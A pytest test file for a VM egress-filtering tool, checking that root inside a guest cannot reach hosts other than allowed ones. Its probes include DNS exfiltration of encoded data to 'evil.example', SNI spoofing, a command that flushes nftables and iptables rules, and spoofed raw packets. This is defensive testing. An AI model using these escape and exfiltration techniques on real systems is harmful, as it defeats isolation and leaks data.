# SPDX-License-Identifier: GPL-3.0-or-later
"""Root in a real guest tries to get out; one warm machine for all tests."""

from __future__ import annotations

import json
import socket
import ssl
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.home import Golden, Home, temporary_home

from callao.events import Event
from callao.instances import inspect
from callao.lifecycle.egress import egress_of

pytestmark = pytest.mark.guest

NAME = "named.test"
"""It leads to the host: the golden image's tests have it in hostResolver.hosts."""

_TRY = """
import json, socket, ssl, sys
def attempt(work):
    try:
        return work()
    except Exception as error:
        return type(error).__name__ + ": " + str(error)
def tcp(host, port, say=b""):
    with socket.create_connection((host, port), 5) as client:
        client.sendall(say)
        return client.recv(100).decode("latin-1")
def tls(name, address, port):
    context = ssl._create_unverified_context()
    with context.wrap_socket(socket.create_connection((address, port), 5), server_hostname=name) as client:
        return client.recv(100).decode()
def udp(address, port, data):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.sendto(data, (address, port))
        return client.recv(4096).hex()
def raw(source, target, port):
    import struct
    segment = struct.pack(">HHIIBBHHH", 40000, port, 7, 0, 0x50, 2, 1000, 0, 0)
    addresses = socket.inet_aton(source), socket.inet_aton(target)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, *addresses)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        sender.sendto(head + segment, (target, 0))
    return "sent"
def route_ipv6():  # as if a router had told its address, and answered for it
    import subprocess
    device = next(name for _, name in socket.if_nameindex() if name != "lo")
    for each in (
        "address replace fec0::99/64 nodad", "neighbour replace fe80::2 lladdr 52:56:00:00:00:02",
        "route replace default via fe80::2",
    ):
        subprocess.run(["ip", "-6", *each.split(), "dev", device], check=True)
"""


def server_context(folder: Path) -> ssl.SSLContext:
    """With a certificate of its own, which the clients here do not check."""
    pem = folder / "server.pem"
    options = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-subj",
        f"/CN={NAME}",
        "-days",
        "2",
    ]
    subprocess.run(
        ["openssl", "req", "-x509", "-nodes", *options, "-keyout", str(pem), "-out", str(pem) + ".crt"],
        check=True,
        capture_output=True,
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(f"{pem}.crt", str(pem))
    return context


class Server:
    """On the host's loopback: greets each client in TLS, or in plain text."""

    def __init__(self, context: ssl.SSLContext | None = None) -> None:
        self.heard = 0
        self._context = context
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listening.accept()
            except OSError:
                return
            self.heard += 1
            try:
                client.settimeout(20)
                if self._context is not None:
                    client = self._context.wrap_socket(client, server_side=True)
                client.sendall(b"host")
                client.close()
            except OSError:
                client.close()

    def close(self) -> None:
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()


class Box:
    def __init__(self, home: Home, secure: Server, plain: Server) -> None:
        self.home, self.secure, self.plain = home, secure, plain
        self.events: list[Event] = []

    def ensure(self, egress: object) -> Any:
        extra = {**self.home.direct(), "egress": egress}
        return self.home.ensure("box", extra=extra, warm=True, timeout=600, events=self.events)

    @property
    def rules(self) -> dict[str, object]:
        return {"allow": [f"{NAME}:{self.secure.port}"], "log": True}

    def root(self, *expressions: str) -> list[str]:
        """What Python expressions come to that root evaluates in the guest."""
        lines = "".join(f"found.append(attempt(lambda: {each}))\n" for each in expressions)
        script = f"{_TRY}\nfound = []\n{lines}print(json.dumps(found))\n"
        done = self.home.ssh("box", f"sudo python3 - <<'PYTHON'\n{script}\nPYTHON\n")
        assert done.returncode == 0, done.stderr
        answers: list[str] = json.loads(done.stdout)
        return answers

    def report(self) -> dict[str, Any]:
        found = egress_of(inspect("box", self.home.path, self.home.host))
        assert found is not None
        return found

    def refused(self) -> set[tuple[str, str, int, str]]:
        return {
            (each["protocol"], each["address"], each["port"], each["name"])
            for each in self.report()["refused"]
        }


@pytest.fixture(scope="module")
def box(golden: Golden, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    secure, plain = Server(server_context(tmp_path_factory.mktemp("certificate"))), Server()
    with temporary_home(golden) as home:
        found = Box(home, secure, plain)
        found.ensure(found.rules)
        yield found
    secure.close()
    plain.close()


def test_rules_do_not_keep_it_from_being_a_copy_of_a_warm_machine(box: Box) -> None:
    assert [each.message for each in box.events if "booting instead" in each.message] == []


def test_an_allowed_name_is_reached_and_the_host_reaches_the_guest(box: Box) -> None:
    (greeting,) = box.root(f"tls('{NAME}', '{NAME}', {box.secure.port})")
    assert greeting == "host"


def test_root_in_the_guest_reaches_nothing_else(box: Box) -> None:
    secure, plain = box.secure.port, box.plain.port
    before = box.plain.heard, box.secure.heard
    answers = box.root(
        f"tls('evil.example', '{NAME}', {secure})",
        f"tcp('192.168.5.2', {plain})",
        f"tcp('{NAME}', {plain})",
        "tcp('192.168.5.2', 22)",
        "tcp('1.1.1.1', 443)",
        "tcp('127.0.0.1', 1) or 1/0",
        "udp('1.1.1.1', 53, bytes(12))",
        "udp('192.168.5.2', 53, bytes(12))",
        "socket.getaddrinfo('c2VjcmV0.evil.example', 443) and '!'",
    )  # fmt: skip
    assert all(
        "Error" in each or "timed out" in each or "gaierror" in each or "Timeout" in each for each in answers
    ), answers
    assert (box.plain.heard, box.secure.heard) == (before[0], before[1] + 1)
    refused = box.refused()
    assert ("tcp", "192.168.5.2", 22, "") in refused
    assert ("tcp", "1.1.1.1", 443, "") in refused
    assert ("tls", "192.168.5.2", secure, "evil.example") in refused
    assert ("dns", "", 0, "c2vjcmv0.evil.example") in refused
    assert "1.1.1.1" in (Path(box.home.path) / "box" / "egress.log").read_text()


def test_nothing_passes_by_ipv6_and_attempts_are_listed(box: Box) -> None:
    answers = box.root(
        "route_ipv6()",
        "tcp('fec0::2', 22)",
        "tcp('2606:4700::1111', 443)",
        "udp('2606:4700::1111', 53, bytes(12))",
    )  # fmt: skip
    assert answers[0] is None
    assert all("Error" in each for each in answers[1:]), answers
    assert {
        ("ipv6", "fec0::2", 0, ""),
        ("tcp", "2606:4700::1111", 443, ""),
        ("dns", "2606:4700::1111", 53, ""),
    } <= box.refused()


def test_frames_of_its_own_making_get_root_no_further(box: Box) -> None:
    plain = box.plain.port
    before = box.plain.heard
    answers = box.root(
        "__import__('subprocess').run('nft flush ruleset; iptables -F -t nat; true', shell=True).returncode",
        f"raw('10.9.8.7', '192.168.5.2', {plain})",
        f"raw('192.168.5.15', '127.0.0.1', {plain})",
        f"raw('192.168.5.2', '192.168.5.2', {plain})",
        f"tcp('192.168.5.2', {plain})",
    )  # fmt: skip
    assert answers[0] == 0  # type: ignore[comparison-overlap]
    assert box.plain.heard == before
    assert box.root(f"tls('{NAME}', '{NAME}', {box.secure.port})") == ["host"]


def test_rules_change_while_it_runs_and_none_leaves_only_the_host_s_own_ways_in(box: Box) -> None:
    outcome = box.ensure({"allow": [f"192.168.5.2:{box.plain.port}"], "log": False})
    assert "restart" not in outcome.actions
    assert box.root(f"tcp('192.168.5.2', {box.plain.port})") == ["host"]
    assert "host" not in box.root(f"tls('{NAME}', '{NAME}', {box.secure.port})")
    box.ensure("none")
    heard = box.plain.heard
    assert "host" not in box.root(f"tcp('192.168.5.2', {box.plain.port})")
    assert box.plain.heard == heard
    assert box.report()["allow"] == []
